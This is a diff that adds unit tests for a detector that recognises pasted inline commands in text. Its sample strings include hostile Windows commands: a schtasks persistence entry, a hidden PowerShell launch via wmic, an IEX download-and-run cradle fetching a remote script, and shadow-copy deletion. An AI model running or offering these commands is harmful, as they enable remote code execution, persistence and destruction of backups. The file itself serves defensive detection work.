@@ -40,3 +40,13 @@ describe('looksLikeCommand', () => {
     expect(looksLikeCommand('', false)).toBe(false);
   });
 });
+
+describe('inline commands that are not in the command list', () => {
+  it('count by their arguments: switches, URLs, Windows paths', () => {
+    expect(codeEvidence('paste `schtasks /create /sc minute /tn Update /tr C:\\x.exe` to unlock it')).toMatch(/^inline command/);
+    expect(codeEvidence('a one-liner: `wmic process call create "powershell -w hidden"`.')).toMatch(/^inline command/);
+    expect(codeEvidence("sent me `IEX (New-Object Net.WebClient).DownloadString('http://x.io/a.ps1')`")).toMatch(/^inline command/);
+    expect(codeEvidence('PSA: the fix going around, `wmic shadowcopy delete`, removes all shadow copies')).toMatch(/^inline command/);
+    expect(codeEvidence('the `user_id` and `created_at` columns')).toBeUndefined();
+  });
+});
